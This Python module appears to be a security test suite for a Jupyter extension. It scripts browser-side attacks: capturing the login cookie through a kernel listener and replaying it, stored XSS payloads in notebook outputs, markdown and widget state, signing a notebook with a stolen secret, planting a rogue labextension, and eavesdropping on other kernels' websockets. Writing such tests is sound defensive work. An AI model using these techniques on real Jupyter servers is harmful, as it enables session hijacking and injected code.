"""What the browser does by itself: cookies, stored outputs, extensions, workers, widgets."""

from __future__ import annotations

import json
import re
from pathlib import Path

import nbformat
from jupyter_process import TOKEN
from nbformat.sign import NotebookNotary

from browser import Tab

LISTEN = """
import socket, threading
_heard = []
_listener = socket.socket(); _listener.bind(("127.0.0.1", 0)); _listener.listen()
def _hear():
    while True:
        peer, _ = _listener.accept()
        _heard.append(peer.recv(9000).decode(errors="replace"))
        peer.sendall(b"HTTP/1.0 204 No Content\\r\\n\\r\\n"); peer.close()
threading.Thread(target=_hear, daemon=True).start()
import os
_at = [_listener.getsockname()]
for _row in map(str.split, open("/proc/self/net/tcp")):
    if _row[9] == str(os.fstat(_listener.fileno()).st_ino):
        _host, _port = _row[1].split(":")
        _at.append((socket.inet_ntoa(bytes.fromhex(_host)[::-1]), int(_port, 16)))
for _place in _at:
    print("at", *_place[:1], "port", _place[1])
"""
"""A listener in the kernel; a walled one is told another place than it really has."""


def cookie_theft(tab: Tab, mark: Path) -> str:
    """R80: a picture from the kernel's own port brings the login cookie along."""
    said = tab.notebook.run_code(LISTEN)
    found = re.findall(r"at ([\d.]+) port (\d+)", said)
    if not found:
        return said.splitlines()[-1] if said else "no port"
    places = [f"{name}:{port}" for host, port in found for name in (host, "127.0.0.1", "localhost")]
    tab.script(
        f"for (const place of {places!r})"
        "  new Image().src = `http://${place}/x.png`; await sleep(1500); return 1"
    )
    heard = tab.notebook.run_code("print('|'.join(_heard))")
    cookie = re.search(r"^Cookie: (.+)$", heard, re.MULTILINE)
    if not cookie:
        return f"heard {heard[:100]}"
    answer = tab.world.server.get("api/me", {"Cookie": cookie[1]}, login=False)
    return f"CONTROL logged in with the cookie: {answer.status}" if answer.status == 200 else "no"


def stored_script(tab: Tab, mark: Path) -> str:
    """R81: an output that was stored, in a notebook that the attacker signed."""
    output = nbformat.v4.new_output(
        "display_data", {"text/html": "<img src=x onerror=\"window.red='CONTROL stored'\">"}
    )
    cell = nbformat.v4.new_code_cell("1", outputs=[output])
    notebook = nbformat.v4.new_notebook(
        cells=[cell], metadata={"kernelspec": {"name": "python3", "display_name": "p"}}
    )
    text = nbformat.writes(notebook)
    path, data = tab.world.root / "notes" / "stored.ipynb", str(tab.world.home / "data")
    said = tab.world.attacker.run(
        f"open({str(path)!r}, 'w').write({text!r})\n"
        f"open({data + '/notebook_secret'!r}, 'rb').read()\n"
        "import nbformat; from nbformat.sign import NotebookNotary\n"
        f"NotebookNotary(data_dir={data!r}).sign(nbformat.read({str(path)!r}, 4)); print('signed')"
    )
    opened = tab.open("notes/stored.ipynb")
    seen = tab.result(opened.page, 4)
    opened.page.close()
    return seen if "CONTROL" in seen else f"{said[:100]}; {seen}"


def markdown_script(tab: Tab, mark: Path) -> str:
    """R82; its control is the same text as an output."""
    hostile = (
        "<script>window.red='CONTROL ran'</script><img src=x onerror=\"window.red='CONTROL ran'\">"
    )
    if tab.world.level.straw:
        tab.notebook.page.evaluate("window.red = undefined")
        tab.notebook.run_code(
            f"from IPython.display import HTML, display\ndisplay(HTML({hostile!r}))"
        )
        return tab.result(tab.notebook.page, 5)
    cells = [nbformat.v4.new_markdown_cell(hostile), nbformat.v4.new_code_cell("1")]
    notebook = nbformat.v4.new_notebook(
        cells=cells, metadata={"kernelspec": {"name": "python3", "display_name": "p"}}
    )
    nbformat.write(notebook, tab.world.root / "notes" / "markdown.ipynb")
    opened = tab.open("notes/markdown.ipynb")
    seen = tab.result(opened.page, 4)
    opened.page.close()
    return seen


def labextension(tab: Tab, mark: Path) -> str:
    """R83: at the next load of the page."""
    folder = tab.world.home / "data" / "labextensions" / "evil"
    build = {"load": "static/remoteEntry.js", "extension": "./extension"}
    package = {"name": "evil", "version": "1.0.0", "jupyterlab": {"_build": build}}
    said = tab.world.attacker.run(
        f"import os; os.makedirs({str(folder / 'static')!r}, exist_ok=True)\n"
        f"open({str(folder / 'package.json')!r}, 'w').write({json.dumps(package)!r})\n"
        f"open({str(folder / 'static' / 'remoteEntry.js')!r}, 'w')"
        ".write(\"window.red = 'CONTROL labextension'\"); print('planted')"
    )
    page = tab.context.new_page()
    page.goto(f"{tab.world.server.url}lab?token={TOKEN}", wait_until="load")
    page.wait_for_timeout(3000)  # it goes on to its workspace
    seen = tab.result(page, 10)
    page.close()
    return seen if "CONTROL" in seen else f"{said[:100]}; {seen}"


def service_worker(tab: Tab, mark: Path) -> str:
    """R84; its control is the worker in its own folder."""
    (tab.world.root / "sw.js").write_text("self.addEventListener('fetch', () => {})")
    scopes = ["''"] if tab.world.level.straw else ["BASE", "BASE + 'valet/'"]
    tries = "".join(
        "try { await navigator.serviceWorker.register(BASE + 'files/sw.js'"
        + ("" if scope == "''" else f", {{scope: {scope}}}")
        + "); said += 'CONTROL registered' } catch (error) { said += error.name }"
        for scope in scopes
    )
    return tab.script(f"let said = ''; {tries} return said")


def widget(tab: Tab, mark: Path) -> str:
    """R88."""
    tab.notebook.page.evaluate("window.red = undefined")
    tab.notebook.run_code(
        "import ipywidgets; from IPython.display import display\n"
        "display(ipywidgets.HTML(value=\"<img src=x onerror='window.red=`CONTROL widget`'>\"))"
    )
    return tab.result(tab.notebook.page, 8)


def saved_notebook(tab: Tab, mark: Path) -> str:
    """R89: what a session with connections leaves in the file."""
    opened = tab.open("notes/saved.ipynb")
    if tab.world.level.straw:
        opened.run_code(f"print(open({str(tab.world.home / 'straw.log')!r}).read())")
    else:
        opened.run_code("%load_ext jupyter_valet")
        for line in ("%connections", "%valet", "tools"):
            opened.run_code(line)
        asking = opened.start_code("%connect canary")
        opened.page.wait_for_timeout(3000)
        opened.interrupt()  # nobody answers the card
        opened.wait_done(asking)
    said = "the file says: " + opened.saved()
    opened.page.close()
    return said


def stored_widget(tab: Tab, mark: Path) -> str:
    """X02: the state of a widget, stored in a notebook that nobody trusts; opened, not run."""
    model = {
        "model_module": "@jupyter-widgets/controls",
        "model_module_version": "2.0.0",
        "model_name": "HTMLModel",
        "state": {"value": "<img src=x onerror='window.red=`CONTROL stored widget`'>"},
    }
    state = {"version_major": 2, "version_minor": 0, "state": {"a" * 32: model}}
    view = {"version_major": 2, "version_minor": 0, "model_id": "a" * 32}
    mime = "application/vnd.jupyter.widget"
    output = nbformat.v4.new_output("display_data", {f"{mime}-view+json": view})
    notebook = nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_code_cell("1", outputs=[output])],
        metadata={
            "kernelspec": {"name": "python3", "display_name": "p"},
            "widgets": {f"{mime}-state+json": state},
        },
    )
    name = "notes/widget.ipynb"
    nbformat.write(notebook, tab.world.root / name)
    if tab.world.level.straw:  # its control: the person has run it, and so trusts it
        NotebookNotary(data_dir=str(tab.world.home / "data")).sign(notebook)
    opened = tab.open(name)
    seen = tab.result(opened.page, 8)
    opened.page.close()
    return seen


def other_notebook(tab: Tab, mark: Path) -> str:
    """X06: the page's script listens to, and types into, the kernel of another notebook."""
    return tab.script(
        "let said = ''; for (const kernel of await (await fetch(BASE + 'api/kernels')).json()) {"
        "  const other = new WebSocket("
        "    'ws://' + location.host + BASE + `api/kernels/${kernel.id}/channels`);"
        "  other.onmessage = async message => { said += message.data.text"
        "    ? await message.data.text() : message.data };"
        "} await sleep(4000); return said",
    )
